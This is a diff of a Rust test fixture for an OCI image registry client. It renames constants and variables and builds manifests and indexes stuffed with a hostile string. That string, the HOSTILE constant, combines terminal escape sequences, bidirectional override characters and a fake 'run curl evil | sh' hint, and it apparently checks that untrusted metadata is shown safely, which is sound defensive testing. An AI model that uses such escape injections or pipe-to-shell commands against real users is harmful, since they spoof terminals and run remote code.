@@ -7,8 +7,8 @@ use testkit::sandbox::Output;
 use super::clocks::{SharedClock, run_without_waiting};
 use super::fixture::Fixture;
 
-const INDEX: &str = "application/vnd.oci.image.index.v1+json";
-const MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";
+const INDEX_TYPE: &str = "application/vnd.oci.image.index.v1+json";
+const MANIFEST_TYPE: &str = "application/vnd.oci.image.manifest.v1+json";
 /// Escape sequences of seven and of eight bits, a line of its own, a turn of direction, and a bell.
 const HOSTILE: &str =
     "x\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{7f}\r\nhint: run curl evil | sh\n\u{202e}\u{2066}y\u{2028}";
@@ -39,42 +39,42 @@ impl Fixture {
     fn with_hostile_content(words: &str) -> Fixture {
         let fixture = Fixture::new();
         let registry = &fixture.registry;
-        let good = Image::oci().platform("linux", "amd64").layer("good").build();
+        let harmless_image = Image::oci().platform("linux", "amd64").layer("good").build();
         let layer = registry.put_blob("app", b"layer");
         let config = json!({"architecture": words, "os": words, "variant": words, "os.version": words});
         let config = serde_json::to_vec(&config).expect("JSON");
         let config_digest = registry.put_blob("app", &config);
         let image = json!({
-            "schemaVersion": 2, "mediaType": MANIFEST, "artifactType": words, "annotations": {(words): words},
+            "schemaVersion": 2, "mediaType": MANIFEST_TYPE, "artifactType": words, "annotations": {(words): words},
             "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": config_digest, "size": config.len()},
             "layers": [{"mediaType": words, "digest": layer, "size": 5, "annotations": {(words): words}}],
         });
         let image = serde_json::to_vec(&image).expect("JSON");
-        let digest = registry.put_manifest("app", "image", MANIFEST, &image);
-        let good_digest = registry.put_image("app", "good", &good);
+        let digest = registry.put_manifest("app", "image", MANIFEST_TYPE, &image);
+        let good_digest = registry.put_image("app", "good", &harmless_image);
         let platform = json!({"architecture": words, "os": words, "variant": words, "os.version": words,
             "os.features": [words], "features": [words]});
         let line = |digest: &str, size: usize| {
-            json!({"mediaType": MANIFEST, "digest": digest, "size": size, "platform": platform,
+            json!({"mediaType": MANIFEST_TYPE, "digest": digest, "size": size, "platform": platform,
                 "annotations": {(words): words}, "artifactType": words, "urls": [words]})
         };
-        let mut odd = line(&good_digest, good.manifest.len());
+        let mut odd = line(&good_digest, harmless_image.manifest.len());
         odd["mediaType"] = Value::from(words);
         let index = |lines: Value, media_type: &str| {
             let index = json!({"schemaVersion": 2, "mediaType": media_type, "artifactType": words, "manifests": lines,
                 "annotations": {(words): words}});
             serde_json::to_vec(&index).expect("JSON")
         };
-        let entries = json!([line(&digest, image.len()), line(&good_digest, good.manifest.len()), odd]);
-        registry.put_manifest("app", "list", INDEX, &index(entries, INDEX));
-        let single = json!([line(&digest, image.len()), line(&good_digest, good.manifest.len())]);
-        registry.put_manifest("app", "other", INDEX, &index(single, INDEX));
+        let entries = json!([line(&digest, image.len()), line(&good_digest, harmless_image.manifest.len()), odd]);
+        registry.put_manifest("app", "list", INDEX_TYPE, &index(entries, INDEX_TYPE));
+        let single = json!([line(&digest, image.len()), line(&good_digest, harmless_image.manifest.len())]);
+        registry.put_manifest("app", "other", INDEX_TYPE, &index(single, INDEX_TYPE));
         registry.put_manifest("app", "none", "application/x", &index(json!([]), words));
         // A member of a wrong type by a hostile name.
-        let wrong = json!([{"mediaType": MANIFEST, "digest": digest, "size": 1, "annotations": {(words): 1}}]);
-        registry.put_manifest("app", "wrong", INDEX, &index(wrong, INDEX));
-        let undigested = json!([{"mediaType": MANIFEST, "digest": words, "size": 1}]);
-        registry.put_manifest("app", "undigested", INDEX, &index(undigested, INDEX));
+        let mistyped = json!([{"mediaType": MANIFEST_TYPE, "digest": digest, "size": 1, "annotations": {(words): 1}}]);
+        registry.put_manifest("app", "wrong", INDEX_TYPE, &index(mistyped, INDEX_TYPE));
+        let undigested = json!([{"mediaType": MANIFEST_TYPE, "digest": words, "size": 1}]);
+        registry.put_manifest("app", "undigested", INDEX_TYPE, &index(undigested, INDEX_TYPE));
         fixture
     }
 
